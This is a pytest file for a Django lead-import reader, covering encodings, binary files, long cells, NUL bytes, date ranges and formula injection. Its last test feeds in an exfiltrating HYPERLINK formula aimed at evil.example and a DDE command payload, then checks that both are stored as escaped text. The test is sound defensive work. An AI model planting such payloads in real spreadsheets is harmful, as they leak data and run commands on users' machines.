"""Import reader: encodings, binary files, long cells, NUL bytes, formulas stored as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook

from leads import importing

pytestmark = pytest.mark.django_db

HEADER = "full_name,phone,email,obtained_at\r\n"


def _names(content: bytes, filename: str = "x.csv") -> list:
    report = importing.validate_file(content, filename)
    return [(row.data.get("full_name"), row.errors) for row in report.rows]


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"], ids=["utf8", "utf8-bom", "utf16", "cp1252"]
)
def test_reader_detects_the_encoding(encoding):
    text = HEADER + "Ren\u00e9 \u201cLina\u201d,0812-1111-2222,,2026-01-05\r\n"
    if encoding == "utf-8":
        text = text.replace("\u201c", "").replace("\u201d", "")
    content = text.encode(encoding)
    [(name, errors)] = _names(content)
    assert name.startswith("Ren\u00e9")
    assert errors == []
    if encoding == "cp1252":  # not latin-1: the curly quotes of Windows survive
        assert name == "Ren\u00e9 \u201cLina\u201d"


def test_reader_refuses_a_binary_file_renamed_csv():
    with pytest.raises(importing.ImportFileError):
        importing.validate_file(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 10, "foto.csv")


def test_reader_refuses_a_cell_over_the_limit_with_its_line():
    content = (HEADER + "Siti," + "9" * 200_000 + ",,\r\n").encode()
    with pytest.raises(importing.ImportFileError, match="Baris 2"):
        importing.validate_file(content, "x.csv")


def test_over_long_name_and_nul_bytes_are_row_errors_not_crashes():
    content = (HEADER + ("A" * 161) + ",0812-1111-2222,,\r\nSi\x00ti,0812-1111-3333,,\r\n").encode()
    report = importing.validate_file(content, "x.csv")
    assert report.rows[0].errors and "160" in report.rows[0].errors[0]
    assert report.rows[1].data["full_name"] == "Siti"


@pytest.mark.parametrize("when", ["0001-01-01", "9999-12-31", "1989-12-31"])
def test_obtained_at_outside_the_sane_range_is_a_row_error(when):
    content = (HEADER + f"Siti,0812-1111-2222,,{when}\r\n").encode()
    [(_, errors)] = _names(content)
    assert errors


def test_formula_names_are_stored_as_text(admin_user_marketing=None):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["full_name", "phone", "institution"])
    sheet.append([evil, "0812-1111-2222", "@SUM(1)"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    [row] = importing.validate_file(buffer.getvalue(), "x.xlsx").rows
    assert row.data["full_name"] == "'" + evil
    assert row.data["institution"][0] == "'@SUM(1)"
    csv_row = importing.validate_file(
        (HEADER + "+cmd|' /C calc'!A0,0812-1111-2222,,\r\n").encode(), "x.csv"
    ).rows[0]
    assert csv_row.data["full_name"] == "'+cmd|' /C calc'!A0"
